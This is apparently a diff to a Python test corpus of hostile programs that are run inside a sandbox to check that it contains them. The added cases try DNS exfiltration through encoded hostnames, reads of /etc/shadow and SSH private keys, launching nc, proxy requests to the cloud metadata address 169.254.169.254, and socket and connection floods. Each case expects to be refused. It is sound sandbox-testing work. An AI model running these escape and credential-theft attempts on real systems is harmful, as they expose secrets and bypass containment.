@@ -1,7 +1,7 @@
 """Hostile solutions: each is run for real in the isolation.
 
 Every program is given with what its first answer must be (None when none may come), the faults that the report must
-name, and limits of its own.
+name, limits of its own, what the report must say that it tried and whom the proxy refused.
 """
 
 # ruff: noqa: E501 -- a program reads best in one piece
@@ -30,6 +30,19 @@ def called(result):
 """
 
 
+# What those share that are let out: a connection to the proxy, and the status of its reply to a line.
+PROXIED = """
+def proxy():
+    link = socket.socket()
+    link.connect(("127.0.0.1", 3128))
+    return link
+def asked_proxy(line):
+    with proxy() as link:
+        link.sendall(line.encode() + b"\\r\\n\\r\\n")
+        return link.recv(99).split()[1].decode()
+"""
+
+
 @dataclass(frozen=True)
 class Hostile:
     """A program, the first answer it gets through, the faults that must be named."""
@@ -40,11 +53,14 @@ class Hostile:
     limits: dict[str, int] = field(default_factory=dict)
     protocol: str = "jsonl"
     one_of: frozenset[str] = frozenset()
+    tried: dict[str, list[str]] = field(default_factory=dict)
+    form: dict[str, Any] = field(default_factory=dict)
+    contacts: tuple[tuple[str, str], ...] = ()
 
 
-def told(code: str, answer: Any, **limits: int) -> Hostile:
-    """A program that tries something and answers with what became of it."""
-    return Hostile(TELL + code, answer, limits=limits)
+def told(code: str, answer: Any, tried: dict[str, list[str]] | None = None, **limits: int) -> Hostile:
+    """A program that tries something and answers with what became of it; the report must say what it tried."""
+    return Hostile(TELL + code, answer, limits=limits, tried=tried or {})
 
 
 def fault(code: str, *names: str, **limits: int) -> Hostile:
@@ -150,7 +166,68 @@ CORPUS: dict[str, Hostile] = {
         frozenset({"does-not-end"}),
     ),
     # Escapes
-    "opens an internet socket": told("tell(tried(socket.socket, socket.AF_INET, socket.SOCK_STREAM))", "EACCES"),
+    "connects to an internet address": told(
+        "tell(tried(socket.socket(socket.AF_INET, socket.SOCK_STREAM).connect, ('192.0.2.1', 443)))",
+        "EACCES",
+        tried={"addresses": ["192.0.2.1:443"]},
+    ),
+    "connects to many addresses": told(
+        "for n in range(3):\n  for _ in range(2): tried(socket.socket(socket.AF_INET6).connect, ('2001:db8::%d' % n, 25))\ntell('tried')",
+        "tried",
+        tried={"addresses": ["[2001:db8::1]:25", "[2001:db8::2]:25", "[2001:db8::]:25"]},
+    ),
+    "sends packets": told(
+        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
+        "tell([tried(s.sendto, b'x', ('192.0.2.2', 9)), tried(s.sendmsg, [b'x'], [], 0, ('192.0.2.3', 9))])",
+        ["EACCES", "EACCES"],
+        tried={"addresses": ["192.0.2.2:9", "192.0.2.3:9"]},
+    ),
+    "smuggles data out in names": told(
+        "try:\n  socket.getaddrinfo('c2VjcmV0.example.org', 443)\nexcept socket.gaierror as error:\n  tell(error.errno < 0)",
+        True,
+        tried={"names": ["c2VjcmV0.example.org"]},
+    ),
+    "asks a name server of its own": told(
+        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.connect(('192.0.2.53', 53))\n"
+        "s.send(bytes(4) + b'\\0\\1' + bytes(6) + b'\\4leak\\7example\\0\\0\\1\\0\\1')\ntell(len(s.recv(99)))",
+        0,
+        tried={"names": ["leak.example"], "addresses": ["192.0.2.53:53"]},
+    ),
+    "serves the internet": told("tell(tried(socket.socket(socket.AF_INET).bind, ('0.0.0.0', 80)))", "EINVAL"),
+    "makes internet sockets without end": told(
+        "import resource\nkept = []\ndef more():\n  while True: kept.append(socket.socket(socket.AF_INET))\n"
+        "first = tried(more)\nkept.clear()\ntime.sleep(0.5)\ntell([first, tried(socket.socket, socket.AF_INET) or 'again'])",
+        ["EACCES", "done"],
+        open_files=1024,
+    ),
+    "looks for files of others": told(
+        "tell([tried(open, path) for path in ('/root/.ssh/id_ed25519', '../home/x', '/etc/../etc/shadow')])",
+        ["ENOENT", "ENOENT", "ENOENT"],
+        tried={"files": ["/etc/shadow", "/home/x", "/root/.ssh/id_ed25519"]},
+    ),
+    "hides what it looks for by its folder": told(
+        "os.chdir('/etc')\nhere = os.open('/', os.O_PATH)\n"
+        "tell([tried(open, 'shadow'), tried(lambda: os.open('home/y', 0, dir_fd=here))])",
+        ["ENOENT", "ENOENT"],
+        tried={"files": ["/etc/shadow", "/home/y"]},
+    ),
+    "hides its memory": told(
+        "libc.prctl(4, 0, 0, 0, 0)\ntell(tried(socket.socket(socket.AF_INET).connect, ('192.0.2.9', 1)))", "EACCES"
+    ),
+    "starts programs": told(
+        "import subprocess\ntell([subprocess.run(['/usr/bin/true']).returncode, tried(subprocess.run, ['/usr/bin/nc'])])",
+        [0, "ENOENT"],
+        tried={"programs": ["/usr/bin/nc", "/usr/bin/true"]},
+    ),
+    "asks the node without end": fault(
+        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nwhile True: tried(s.sendto, b'x', ('192.0.2.1', 9))",
+        "no-answer",
+        start_seconds=2,
+    ),
+    "points at nothing": told(
+        "tell([called(libc.connect(0, ctypes.c_void_p(n), 16)) for n in (0, 8, (1 << 64) - 4096)])", ["EFAULT"] * 3
+    ),
+    "writes a file that only Landlock forbids": told("tell(tried(open, '/proc/self/comm', 'w'))", "EACCES"),
     "opens a raw socket": told("tell(tried(socket.socket, socket.AF_PACKET, socket.SOCK_RAW))", "EACCES"),
     "opens a netlink socket": told("tell(tried(socket.socket, socket.AF_NETLINK, socket.SOCK_RAW))", "EACCES"),
     "connects to a socket by an abstract name": told(
@@ -209,7 +286,57 @@ CORPUS: dict[str, Hostile] = {
         "no-answer",
         start_seconds=1,
     ),
+    # The way out
+    "asks the proxy for the cloud's secrets": Hostile(
+        TELL + PROXIED + "tell(asked_proxy('GET http://169.254.169.254/ HTTP/1.1'))",
+        "403",
+        form={"egress": ["169.254.169.254:80"]},
+        contacts=(("169.254.169.254:80", "not-public"),),
+    ),
+    "asks the proxy for the node itself": Hostile(
+        TELL + PROXIED + "tell(asked_proxy('CONNECT localhost:8000 HTTP/1.1'))",
+        "403",
+        form={"egress": ["localhost:8000"]},
+        contacts=(("localhost:8000", "not-public"),),
+    ),
+    "asks the proxy for another place": Hostile(
+        TELL
+        + PROXIED
+        + "tell([asked_proxy('CONNECT %s HTTP/1.1' % place) for place in ('b.example:443', 'a.example:80')])",
+        ["403", "403"],
+        form={"egress": ["a.example:443"]},
+        contacts=(("a.example:80", "not-listed"), ("b.example:443", "not-listed")),
+    ),
+    "goes round the proxy": Hostile(
+        TELL + "tell(tried(socket.socket(socket.AF_INET).connect, ('192.0.2.1', 443)))",
+        "EACCES",
+        tried={"addresses": ["192.0.2.1:443"]},
+        form={"egress": ["a.example:443"]},
+    ),
+    "talks nonsense to the proxy": Hostile(
+        TELL + PROXIED + "tell([asked_proxy(line) for line in ('x', 'GET / HTTP/1.1', '\x16\x03')])",
+        ["403", "403", "403"],
+        form={"egress": ["a.example:443"]},
+        contacts=(("", "bad-request"),),
+    ),
+    "holds the proxy's connections": Hostile(
+        TELL + PROXIED + "kept = [proxy() for _ in range(40)]\ntell(sum(one.recv(1) == b'' for one in kept[32:]))",
+        8,
+        form={"egress": ["a.example:443"]},
+    ),
     # The chat protocol
+    "serves on a port and reaches out": Hostile(
+        "import os, socket\n"
+        "server = socket.create_server(('127.0.0.1', int(os.environ['SILD_PORT'])))\n"
+        "while True:\n  link, _ = server.accept()\n  if not link.recv(65536): continue\n"
+        "  out = socket.socket()\n  code = out.connect_ex(('192.0.2.1', 80))\n"
+        '  text = b\'{"choices": [{"message": {"content": "%d"}}]}\' % code\n'
+        "  link.sendall(b'HTTP/1.1 200 OK\\r\\nContent-Length: %d\\r\\n\\r\\n' % len(text) + text)\n  link.close()",
+        "13",
+        protocol="chat",
+        tried={"addresses": ["192.0.2.1:80"]},
+        form={"start": {"command": ["python3", "main.py"], "protocol": "chat", "port": 8080}},
+    ),
     "never listens": Hostile(
         "import time; time.sleep(99)",
         None,
